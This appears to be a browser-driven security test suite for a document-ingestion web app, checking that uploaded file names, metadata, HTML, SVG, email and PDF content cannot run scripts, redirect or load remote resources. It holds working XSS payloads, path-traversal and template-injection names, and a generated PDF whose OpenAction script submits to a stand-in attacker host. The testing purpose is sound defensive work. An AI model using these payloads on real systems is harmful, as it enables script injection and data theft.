// What people add is never believed: hostile names, texts, HTML, SVG and PDFs cannot run, load or change anything.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { closeBrowser, eventually, openPage, startServer } from './support.mjs';

const shout = "window.__owned='yes'";
const call = 'http://evil.example/x';
const page = `<!doctype html><html><head><title><img src=x onerror="${shout}"></title><base href="${call}">
<meta http-equiv="refresh" content="0;url=${call}"><link rel="stylesheet" href="${call}.css"><script>${shout}</script></head>
<body onload="${shout}"><h1>vexillum</h1><img src="${call}.png" onerror="${shout}"><iframe src="javascript:${shout}"></iframe>
<a href="javascript:${shout}">vexillum link</a><form action="${call}"><button>vexillum</button></form>
<svg onload="${shout}"><script>${shout}</script></svg><style>@import url(${call}.css)</style></body></html>`;
const picture = `<svg xmlns="http://www.w3.org/2000/svg" onload="${shout}" width="100" height="100"><script>${shout}</script>
<image href="${call}.png" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${shout}"/></foreignObject>
<text y="40">vexillum</text></svg>`;

// A PDF whose opening and whose links want to run or to leave.
function hostilePdf() {
  const text = 'BT /F1 24 Tf 72 700 Td (vexillum) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\); this.submitForm\\("http://evil.example/x"\\);) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] /AA << /O << /S /URI /URI (http://evil.example/x) >> >> >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); window.__owned = "yes") 6] >>',
    '<< /Type /Annot /Subtype /Link /Rect [60 680 300 740] /A << /S /URI /URI (http://evil.example/x) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [60 600 300 660] /A << /S /URI /URI (javascript:window.__owned=1) >> >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const at = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) body += `${String(at).padStart(10, '0')} 00000 n \n`;
  return `${body}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
}

const mail = `From: "<img src=x onerror=${shout}>" <a@example.org>\r\nTo: b@example.org\r\nSubject: <script>${shout}</script> vexillum
Content-Type: text/html\r\n\r\n${page}`.replace(/\r?\n/g, '\r\n');

const names = [
  `<img src=x onerror=${shout}>.txt`,
  `"><script>${shout}</script>.html`,
  "javascript:window.__owned='yes'.txt",
  '../../../../etc/passwd.txt',
  'a\u202egnp.txt',
  '%3Cscript%3E&lt;script&gt;.txt',
  '{{constructor.constructor("x")()}}.txt',
  `${'long-'.repeat(60)}.txt`,
];
const files = [
  ...names.map((name) => [name, `vexillum <script>${shout}</script> &lt;b&gt; ${name}`]),
  ['page.html', page],
  ['picture.svg', picture],
  ['script.pdf', hostilePdf()],
  ['letter.eml', mail],
  [`unknown <script>${shout}</script>.bin`, Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 197 + (n >> 3)) & 255))],
];

// Addresses that metadata claims to have come from.
const addresses = [`javascript:${shout}//`, `JaVaScRiPt:${shout}`, `data:text/html,<script>${shout}</script>`, ` http://evil.example/`, `http://evil.example/"><script>${shout}</script>`];

let server;
let lines;
before(async () => {
  server = await startServer();
  for (const [name, content] of files) {
    const metadata = JSON.stringify({
      title: `<img src=x onerror=${shout}>`, [`<b onclick=${shout}>`]: `<script>${shout}</script>`, url: addresses[files.findIndex(([one]) => one === name) % addresses.length],
    });
    const query = new URLSearchParams({ filename: name, metadata });
    const answer = await fetch(`${server.url}/api/v1/collections/hostile/files?${query}`, { method: 'POST', body: content });
    assert.equal(answer.status, 201, `${name}: ${await answer.text()}`);
  }
  await eventually(async () => {
    const ledger = await server.get('/collections/hostile');
    assert.equal(ledger.in_progress, 0);
  }, { seconds: 120 });
  lines = (await server.get('/files?collection=hostile&limit=500')).items;
});
after(async () => {
  await server.stop();
  await closeBrowser();
});

async function openWatched(path) {
  const watched = await openPage(server, { path: null });
  const dialogs = [];
  watched.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  if (path) await watched.goto(path);
  watched.assertUnharmed = async () => {
    assert.equal(await watched.evaluate(() => window.__owned), undefined, `owned at ${watched.url()}`);
    assert.deepEqual(dialogs, []);
    assert.equal(new URL(watched.url()).origin, server.url, 'it was led away');
    assert.deepEqual(await watched.evaluate(strangeLinks), [], `at ${watched.url()}`);
    watched.assertClean();
  };
  return watched;
}

// In the page: whatever leads or loads from elsewhere than this server.
function strangeLinks() {
  const all = [...document.querySelectorAll('[href], [src], [action], [formaction], [data]')];
  const given = all.flatMap((one) => ['href', 'src', 'action', 'formaction', 'data'].map((name) => one.getAttribute(name)).filter(Boolean));
  return given.filter((link) => {
    const { protocol, origin } = new URL(link, location.href);
    return !(protocol === 'blob:' || (protocol === 'data:' && link.startsWith('data:image/')) || origin === location.origin);
  });
}

// Everything that it asked for is there, and what that might set off has had its turn.
async function settled(watched) {
  await eventually(async () => assert.equal(await watched.locator('.loading').count(), 0));
  await watched.evaluate(() => new Promise((done) => setTimeout(done, 100)));
}

test('every file came to an end that is told', () => {
  const classes = new Set(lines.map((line) => line.class));
  assert.ok(classes.has('document') && classes.has('error'), [...classes].join());
});

test('lists and pages show hostile names as the text that they are', async () => {
  const watched = await openWatched();
  const job = (await server.get('/jobs?limit=1')).items[0].job;
  for (const path of ['/', '/jobs', `/jobs/${job}`, `/jobs/${job}/files`, '/collections', '/collections/hostile', '/errors', '/search?q=vexillum']) {
    await watched.goto(path);
    await settled(watched);
    await watched.assertUnharmed();
  }
  await watched.goto('/collections/hostile');
  await watched.getByText(names[0]).first().waitFor();
  await watched.done();
});

test('each file and each document can be looked at without harm', async () => {
  const watched = await openWatched();
  for (const line of lines) {
    const kinds = line.class === 'document' ? [`/files/${line.file}`, `/documents/${line.file}?q=vexillum&n=0`, `/documents/${line.file}?q=vexillum&view=text`] : [`/files/${line.file}`];
    for (const path of kinds) {
      await watched.goto(path);
      await eventually(async () => assert.equal(await watched.locator('main h1').count(), 1), { seconds: 20, what: () => `${path}` });
      await settled(watched);
      await watched.assertUnharmed();
    }
  }
  await watched.done();
});

test('snippets with markup in them are text with marks', async () => {
  const watched = await openWatched('/search?q=vexillum');
  await watched.locator('.hit').first().waitFor();
  assert.ok((await watched.locator('.snippet mark').count()) > 0);
  assert.equal(await watched.locator('.snippet :not(mark)').count(), 0, 'nothing but marks inside a snippet');
  assert.ok((await watched.locator('.snippet').allInnerTexts()).some((text) => text.includes('<script>')), 'and it is shown');
  await watched.assertUnharmed();
  await watched.done();
});

test('the links of a PDF lead nowhere, and its scripts do not run', async () => {
  const pdf = lines.find((line) => line.filename === 'script.pdf' && line.class === 'document');
  const watched = await openWatched(`/documents/${pdf.file}`);
  await watched.locator('.textLayer span', { hasText: 'vexillum' }).first().waitFor();
  await watched.locator('.textLayer span', { hasText: 'vexillum' }).first().click({ force: true });
  const links = await watched.locator('.annotationLayer a').evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''));
  assert.ok(links.every((href) => !/evil|javascript:window/.test(href)), links.join());
  await watched.assertUnharmed();
  await watched.done();
});

test('the bytes themselves, opened by their address, are downloaded and not shown', async () => {
  for (const line of lines.filter((one) => one.parent === null && /\.(html|svg|eml)$/.test(one.filename))) {
    const answer = await fetch(`${server.url}/api/v1/files/${line.file}/blob`);
    assert.equal(answer.headers.get('content-type'), 'application/octet-stream', line.filename);
    assert.match(answer.headers.get('content-security-policy'), /sandbox/);
    const watched = await openWatched();
    const download = watched.waitForEvent('download');
    await watched.goto(`/api/v1/files/${line.file}/blob`).catch(() => {}); // a download is no navigation
    await download;
    assert.equal(await watched.evaluate(() => window.__owned), undefined);
    await watched.context().close();
  }
});

test('texts opened by their address are plain and sandboxed', async () => {
  const html = lines.find((line) => line.filename === 'page.html' && line.class === 'document');
  const watched = await openPage(server, { path: null });
  const answer = await watched.goto(`/api/v1/files/${html.file}/text`);
  assert.match(answer.headers()['content-type'], /^text\/plain/);
  assert.equal(answer.headers()['x-content-type-options'], 'nosniff');
  assert.equal(await watched.evaluate(() => window.__owned), undefined);
  await watched.context().close();
});

test('signs that turn the letters around are seen, and turn none', async () => {
  const line = lines.find((one) => one.filename.includes('\u202e') && one.parent === null);
  const watched = await openWatched(`/files/${line.file}`);
  await watched.getByRole('heading', { level: 1, name: 'a\ufffdgnp.txt' }).waitFor();
  for (const path of ['/collections/hostile', `/jobs/${(await server.get(`/files/${line.file}`)).job}/files`, '/search?q=filename:gnp']) {
    await watched.goto(path);
    await settled(watched);
    const turning = await watched.locator('main :is(a, h1, h2, .name, .under)').evaluateAll((all) => all.filter((one) => one.textContent.includes('\u202e')).map((one) => one.textContent));
    assert.deepEqual(turning, [], path);
  }
  await watched.done();
});

test('a PDF and pictures by their addresses are what they say, and sandboxed', async () => {
  for (const line of lines.filter((one) => one.class === 'document')) {
    const blob = await fetch(`${server.url}/api/v1/files/${line.file}/blob`);
    if (!blob.ok) continue; // some have only text
    assert.match(blob.headers.get('content-type'), /^application\/(pdf|octet-stream)$/, line.filename);
    const thumbnail = await fetch(`${server.url}/api/v1/files/${line.file}/thumbnail`);
    if (thumbnail.ok) assert.match(thumbnail.headers.get('content-type'), /^image\/(png|jpeg|webp)$/, line.filename);
    for (const answer of [blob, thumbnail]) {
      assert.equal(answer.headers.get('x-content-type-options'), 'nosniff', line.filename);
      assert.match(answer.headers.get('content-security-policy'), /sandbox/, line.filename);
      await answer.arrayBuffer();
    }
  }
});

test('a name in the address cannot leave its header', async () => {
  for (const line of lines.filter((one) => one.parent === null)) {
    const answer = await fetch(`${server.url}/api/v1/files/${line.file}/blob?download=1`);
    await answer.arrayBuffer();
    const said = answer.headers.get('content-disposition') ?? '';
    assert.match(said, /^attachment/, line.filename);
    assert.doesNotMatch(said, /[\r\n\u202e<>]/, line.filename);
  }
});
